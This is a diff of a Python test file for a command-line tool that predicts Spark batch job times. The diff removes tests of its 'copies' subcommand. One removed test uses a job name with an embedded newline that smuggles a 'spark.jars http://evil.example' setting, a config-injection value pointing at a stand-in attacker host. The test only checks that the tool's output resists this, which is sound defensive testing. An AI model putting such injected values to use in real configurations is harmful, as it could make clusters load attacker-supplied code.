@@ -76,17 +76,6 @@ def test_a_deadline_that_nothing_meets_names_the_nearest(jobs: Path) -> None:
     assert re.search(r"nothing ends in 1.0 s; the nearest is \d+\.\d s", result.stdout)
 
 
-def test_copies_of_the_example(jobs: Path, tmp_path: Path) -> None:
-    out = tmp_path / "spark.conf"
-    result = run("batch", "copies", str(jobs), "--budget", "0.1", "--to", "spark", "-o", str(out))
-    assert result.exit_code == 0, result.stderr
-    assert "of what doubling every task takes off" in result.stdout
-    assert "spark.speculation" in out.read_text()
-    written = tmp_path / "copies.json"
-    assert run("batch", "copies", str(jobs), "-o", str(written)).exit_code == 0
-    assert json.loads(written.read_text())["budget"] == 0.05
-
-
 def test_packed_and_rolled_logs_are_one_log(tmp_path: Path) -> None:
     lines = small_log()
     (tmp_path / "a.gz").write_bytes(gzip.compress(SMALL))
@@ -182,10 +171,8 @@ def test_documents_without_times_are_refused(tmp_path: Path) -> None:
     table.write_text("job0\t9\t9\t1762\t0\t14347\n")
     result = run("batch", "fit", str(table), "-o", str(out))
     assert result.exit_code == 0, result.stderr
-    for verb in ("predict", "copies"):
-        refused(run("batch", verb, str(out)), "no job has task times")
-        refused(run("batch", verb, str(_written(tmp_path, "{}"))), "kwiken batch fit")
-    refused(run("batch", "copies", str(out), "--to", "spark"), "--to needs -o")
+    refused(run("batch", "predict", str(out)), "no job has task times")
+    refused(run("batch", "predict", str(_written(tmp_path, "{}"))), "kwiken batch fit")
     refused(run("batch", "predict", str(_two_jobs(tmp_path))), "several jobs")
 
 
@@ -249,8 +236,7 @@ def _document(folder: Path, **changes: Any) -> Path:
 
 def test_documents_that_would_take_all_memory_are_refused(tmp_path: Path, jobs: Path) -> None:
     many = _document(tmp_path, executors=[{"slots": 1 << 20}] * 9)
-    for verb in ("predict", "copies"):
-        refused(run("batch", verb, str(many)), "9437184 slots; 1000000 is the most")
+    refused(run("batch", "predict", str(many)), "9437184 slots; 1000000 is the most")
     refused(run("batch", "predict", str(_document(tmp_path, name="n" * 1001))), "name")
     refused(run("batch", "predict", str(jobs), "--input", "999999999999x"), "is the most")
     refused(run("batch", "predict", str(jobs), "--executors", "2..100000", "--slots", "99"), "too many")
@@ -259,10 +245,3 @@ def test_documents_that_would_take_all_memory_are_refused(tmp_path: Path, jobs: 
 def test_a_deadline_near_the_most_slots_is_searched_within_them(jobs: Path) -> None:
     words = ("--executors", "2500", "--slots", "100", "--deadline", "1s")
     assert "nothing ends" in run("batch", "predict", str(jobs), *words).stdout
-
-
-def test_a_name_forges_no_setting_of_spark(tmp_path: Path) -> None:
-    path = _document(tmp_path, name="x\nspark.jars http://evil.example")
-    result = run("batch", "copies", str(path), "--to", "spark", "-o", "-")
-    assert result.exit_code == 0, result.stderr
-    assert not any(line.startswith("spark.jars") for line in result.stdout.splitlines())
